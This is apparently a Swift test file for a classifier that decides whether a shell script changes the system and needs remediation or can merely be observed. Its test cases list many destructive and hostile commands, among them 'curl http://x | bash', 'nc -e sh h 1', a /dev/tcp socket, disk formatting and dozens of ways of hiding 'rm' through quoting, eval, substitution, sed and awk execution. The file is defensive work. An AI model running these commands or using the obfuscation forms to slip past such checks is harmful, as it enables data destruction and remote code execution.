import Actions
import Testing

struct ChangingCommandTests {
  @Test(arguments: [
    // What it is.
    "rm x", "mv a b", "cp a b", "chmod 1 x", "chown a x", "mkdir x", "touch x", "ls | tee x",
    "apt install x", "apt-get update",
    "dpkg -i x", "pip install x", "service x start", "reboot", "shutdown now", "kill 1",
    "kill -9 1", "pkill x", "iptables -F",
    "dd if=a of=b", "mkfs.ext4 /dev/sda", "mount /dev/sda /mnt", "mount -a", "useradd x", "passwd",
    "crontab -e", "crontab x",
    "python3 -c 1", "perl -e 1", "less x", "man ls", "vi x", "some-program", "ssh host ls",
    "parallel ls", "chroot / ls",
    // Where it hides.
    "sh -c 'rm x'", "sh -c \"rm x\"", "ls; rm x", "ls && rm x", "ls || rm x", "ls & rm x",
    "ls\nrm x", "$(rm x)", "`rm x`",
    "echo $(rm x)", "echo \"$(rm x)\"", "echo \"`rm x`\"", "echo ${x:-$(rm y)}",
    "echo \"${x:-$(rm y)}\"", "x=$(rm y)",
    "x=rm; $x y", "$x", "${x}", "echo rm x | sh", "curl http://x | bash", "sh <<EOF\nrm x\nEOF",
    "cat <<EOF\n$(rm x)\nEOF",
    "cat <<EOF\n`rm x`\nEOF", "(rm x)", "{ rm x; }", "if rm x; then ls; fi", "if ls; then rm x; fi",
    "if ls; then ls; else rm x; fi",
    "while rm x; do ls; done", "for x in $(rm y); do ls; done", "for x in a; do rm $x; done",
    "case $(rm x) in a) ls;; esac",
    "case x in $(rm x)) ls;; esac", "case x in a) rm x;; esac", "f() { rm x; }", "f() { rm x; }; f",
    "echo $((1+$(rm x)))",
    "ls < $(rm x)", "! rm x", "x=1 rm y", "ls | rm x", "ls -l `echo \\`rm x\\``",
    // How it is written.
    "\\rm x", "'r'm x", "r\"\"m x", "r''m x", "$'\\x72m' x", "/bin/rm x", "\"rm\" x", "r\\m x",
    "./ls", "/tmp/ls", "../bin/ls",
    "/bin/../tmp/ls", "~/ls", "l*", "{ls,-l}", "r\\\nm x", "/bin/l?", "\"$(echo rm)\" x", "LS",
    "ls\u{a0}", "\u{b}ls",
    // Who runs it.
    "env rm x", "env -i rm x", "env A=1 rm x", "env -S 'rm x'", "env PATH=/tmp ls", "sudo rm x",
    "sudo -u a rm x", "sudo -s",
    "sudo -i", "sudo -e x", "doas rm x", "nohup rm x", "nice rm x", "nice -n 5 rm x",
    "timeout 5 rm x", "timeout -k 1 5 rm x",
    "time rm x", "setsid rm x", "stdbuf -oL rm x", "ionice -c3 rm x", "busybox rm x",
    "busybox sh -c 'rm x'", "command rm x",
    "command -p rm x", "exec rm x", "builtin eval 'rm x'", "eval rm x", "eval 'rm x'",
    "eval \"$x\"", "eval \"r\" 'm x'",
    "eval r''m x", "source x", ". ./x", "trap 'rm x' EXIT", "trap \"rm $x\" EXIT", "watch rm x",
    "watch 'ls; rm x'",
    "ls | xargs rm", "xargs -I{} rm {}", "xargs -I% sh -c %", "xargs -I{} {}", "xargs sh",
    "xargs find", "xargs env",
    "xargs -n1 -P4 sh -c 'rm x'", "sh x.sh", "sh", "bash -i -c ls", "bash --rcfile x -c ls",
    "sh -c \"$x\"", "sh -s", "ls | sh -s",
    "env sh -c 'nice sh -c \"sudo rm x\"'", "nice -n $x ls", "timeout ls*", "nohup $x",
    "command $x", "exec -a ls rm x",
    // Redirections.
    "ls > x", "ls >> x", "ls >| x", "ls 1> x", "ls 2> x", "ls <> x", "> x", "ls >&x", "ls >& x",
    "exec > x", "ls > $x", "{ ls; } > x",
    "(ls) > x", "for a in b; do ls; done > x", "f() { ls; } > x", "ls > /dev/sda",
    "ls >/dev/null > x", "ls &> x", "ls &>/dev/null rm x",
    // Variables and names.
    "PATH=/tmp", "PATH=/tmp ls", "LD_PRELOAD=x ls", "IFS=x", "ENV=x sh -c ls",
    "BASH_ENV=x bash -c ls", "export PATH=/tmp",
    "export LD_PRELOAD", "read PATH", "for PATH in /tmp; do ls; done", ": ${PATH:=/tmp}",
    "export \"$x\"", "export a=$b", "unset PATH",
    "unset -f f", "PS4='$(rm x)'", "alias ls=rm", "ls() { rm x; }", "ls() { echo x; }",
    "cd() { ls; }", "f; f() { ls; }",
    "(f() { ls; }); f", "if ls; then f() { ls; }; fi; f", "f() { ls; }; env f",
    "f() { ls; }; command f", "f() { \"$@\"; }; f rm x",
    "f() { $1; }; f rm", "hash -p /tmp/x ls", "enable -f x y", "set -k", "set \"$x\"",
    "getopts ab PATH", "GIT_PAGER='rm x' git log",
    // Values that shells calculate.
    "echo $((x))", "echo $((a[1]))", "test -v 'a[$(rm x)]'", "[ $x = y ]", "[ \"$a\" \"$b\" ]",
    // Options that change a command.
    "find . -exec rm {} \\;", "find . -execdir ls \\;", "find . -ok ls \\;", "find . -okdir ls \\;",
    "find . -delete", "find . -fprint x",
    "find . -fls x", "find . -fprintf x y", "find . $x", "find . \"$x\"", "find *",
    "find . -name $x", "find . -del\"\"ete",
    "sort -o x y", "sort -no x y", "sort --output=x y", "sort --outp x y", "sort -k -- -o x",
    "sort --compress-program=x", "sort \"$x\"",
    "uniq a b", "uniq $x", "sed -i s/a/b/ x", "sed -ni p x", "sed --in-place p x", "sed -n 'w x'",
    "sed 's/a/b/w x'", "sed 's/a/b/e'",
    "sed '1e rm x'", "sed e", "sed -f x", "sed -n '/a/w x'", "sed '/[/]/w x'", "sed 'a x'",
    "sed -e p -e 'w x'", "sed \"$x\"", "sed -s -i p x",
    "sed 's;a;b;w x'", "sed '1!w x'", "sed '{w x\n}'", "awk 'BEGIN{system(\"rm x\")}'",
    "awk '{print > \"x\"}'", "awk '{print | \"sh\"}'",
    "awk '{\"rm x\" | getline}'", "awk -f x", "awk \"$x\"", "awk '{printf \"a\" >> \"x\"}'",
    "awk 'a ||| b'", "gawk -i inplace 1 x",
    "awk '@load \"x\"'", "awk -v a=1 -f x", "tar xf x", "tar -xf x", "tar cf x y",
    "tar tf x --to-command=rm",
    "tar -tf x --checkpoint=1 --checkpoint-action=exec=rm", "tar -tf host:x", "tar tIf rm x",
    "tar -t -I rm -f x", "git commit -m x",
    "git checkout x", "git -c core.pager=rm log", "git push", "git diff --output=x",
    "git diff --ext-diff", "git branch x", "git branch -d x",
    "git tag x", "git config x y", "git grep -O x", "git log --outp=x", "git x", "date -s x",
    "date --set=x", "date 01010000", "date -us x",
    "hostname x", "hostname -F x", "ip addr add 1 dev x", "ip link set x up", "ip route del x",
    "ip netns exec a ls", "ip link s eth0 up", "jobs -x rm x", "wait -p x", "exit 'a[$(rm x)]'",
    "ltrace -S rm -p 1", "SECONDS=x", "read RANDOM",
    "noglob() { ls; }; noglob rm x", "ip -b x", "ip $x",
    "ip route flush all", "sysctl -w a=b", "sysctl a=b", "sysctl -p", "sysctl --system",
    "curl -o x http://x", "curl -O http://x",
    "curl -sO http://x", "curl -T x http://x", "curl -d a http://x", "curl --data a http://x",
    "curl -X POST http://x", "curl -XPOST http://x",
    "curl -X DELETE http://x", "curl -F a=b http://x", "curl -K x", "curl $x", "curl gopher://x",
    "curl -w '%output{x}a' http://x", "curl -D x http://x",
    "curl --json a http://x", "wget http://x", "wget -O x http://x", "wget -qO x http://x",
    "wget --post-data=a -O- http://x", "wget -i x",
    "journalctl --vacuum-time=1d", "journalctl --vacuum-size 1", "journalctl --rotate",
    "journalctl --rot", "journalctl --flush",
    "journalctl --sync", "journalctl --cursor-file=x", "dmesg -C", "dmesg -c", "dmesg -Tc",
    "dmesg --clear", "dmesg --cl", "ss -K dst x", "ss --kill",
    "ss -tK", "nmap --script=x h", "nmap -sC h", "nmap -A h", "nmap -oN x h", "nmap --script x h",
    "tcpdump -w x", "tcpdump -z rm", "nc -e sh h 1",
    "nc -l 1", "nc h 1", "strace rm x", "strace -o x -p 1", "strace -p 1 -e inject=open:error=EIO",
    "systemctl stop x", "systemctl restart x",
    "systemctl daemon-reload", "systemctl -H h status", "systemctl --root=x status", "systemctl $x",
    "systemctl edit x", "docker run x",
    "docker exec x ls", "docker -H x ps", "docker rm x", "kubectl delete pod x",
    "kubectl exec x -- ls", "kubectl apply -f x",
    "kubectl get --raw /x", "kubectl --kubeconfig=x get pods", "kubectl --kubeconfig x get pods",
    "kubectl get pods --server=x",
    "kubectl whoami", "kubectl get pods --as=root", "kubectl port-forward x 1", "kubectl cp a b",
    "kubectl proxy", "kubectl $x", "kubectl diff -k x",
    "kubectl auth reconcile -f x", "kubectl config set a b", "kubectl rollout restart x",
    "kubectl get -o\"$x\"$y", "fdisk /dev/sda", "printf \"$x\"",
    "kill -0 -1", "kill -0 $x", "kill -0 1 -9", "file -C", "xxd -r a b", "openssl x509 -out x",
    "openssl enc -in x", "pidstat -e rm x", "sar -o x",
    "top -k", "swapon x", "crontab", "perf record ls", "ls; [[ a && rm x ]]", "((rm x))",
    "echo $[1]", "ls \"", "ls $(", "fi", "ls )",
    "lsof -D b", "blkid -c x", "$(( ls ); rm x)",
  ])
  func changes(text: String) {
    #expect(level(script(text)) == .remediate)
  }

  @Test(arguments: [
    "[[ $(rm x) ]]", "[[ $x -eq 1 ]]", "[[ -v $x ]]", "a=($(rm x))", "a[$(rm x)]=1", "cat <(rm x)",
    "ls > >(rm x)", "cat <<<$(rm x)",
    "function f { rm x; }", "function ls { ps; }", "(( $(rm x) ))", "((x))",
    "for ((i=0;i<3;i++)); do ls; done", "for ((;)); do ls; done", "[[ -f ]]", "echo ${x@P}",
    "echo ${!x}", "echo ${a[$(rm x)]}", "echo ${a[x]}", "echo ${x:y}", "echo ${x/a/$(rm x)}",
    "coproc rm x", "ls &> x", "ls &>> x", "ls |& tee x",
    "echo $(a=(\\`rm\\ x\\`))", "echo $(f() { a=(\\$\\(rm\\ x\\)); }; f)", "cat <((rm x))",
    "cat <((ls); ls)", "{PATH}</dev/null", "ls {x}>/dev/null", "declare -n r=PATH",
    "declare -i x=y", "printf -v PATH x", "mapfile -C rm x",
    "time { rm x; }", "export -f f", "shopt -s expand_aliases", "select x in $(rm y); do ls; done",
    "case x in a) ls;& b) rm x;; esac",
    "$'r\\155' x", "$'\\u0072m' x", "/bin/ls() { rm x; }", "echo $\"$(rm x)\"",
    "exec 3<>/dev/tcp/h/1", "[[ x =~ $(rm x) ]]", "${ rm x; }",
  ])
  func changesInBash(text: String) {
    #expect(level(bash(text)) == .remediate)
  }

  @Test(arguments: [
    "{ ls } always { rm x }", "ls *(e:'rm x':)", "cat =(rm x)", "ls $x[1]", "echo ${(e)x}",
    "repeat 3 ls", "[ $x -eq 1 ]", "if true { rm x }",
    "path=(/tmp)", "exit $x", "ls $=x",
  ])
  func changesInZsh(text: String) {
    #expect(level(script(text, ["/bin/zsh"])) == .remediate)
  }

  @Test(arguments: [
    ["/usr/bin/python3"], ["perl"], ["/tmp/sh"], ["sh", "-i"], ["bash", "--rcfile", "x"],
    ["bash", "-O", "extglob"], ["fish"], [],
    ["/usr/bin/env", "python3"], ["/bin/sh", "-c", "rm x"], ["/bin/sh", "x.sh"], ["/bin/sh", "-s"],
    ["/bin/sh", "-l"], ["sudo", "python3"],
  ])
  func doesNotTrustTheInterpreter(interpreter: [String]) {
    #expect(level(script("ls", interpreter)) == .remediate)
  }

  @Test(arguments: [
    ["/bin/sh", "-eu"], ["sh"], ["bash", "-euo", "pipefail"], ["/usr/bin/dash"],
    ["/usr/bin/env", "bash"], ["ksh"], ["zsh"], ["/bin/sh", "-c"],
    ["busybox", "sh"],
  ])
  func readsScriptsOfShells(interpreter: [String]) {
    // With its own `-c`, the shell takes the next one for another option.
    #expect(level(script("ls", interpreter)) == .observe)
    #expect(level(script("rm x", interpreter)) == .remediate)
  }
}
